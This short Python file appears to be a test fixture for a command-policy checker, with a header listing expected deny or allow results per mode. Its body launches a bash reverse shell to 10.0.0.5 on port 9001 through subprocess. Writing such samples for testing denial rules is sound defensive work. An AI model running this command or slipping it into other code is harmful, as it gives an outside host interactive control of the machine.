# expect: strict=deny standard=deny audit=allow
import subprocess
argv = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/9001 0>&1"]
subprocess.Popen(argv)
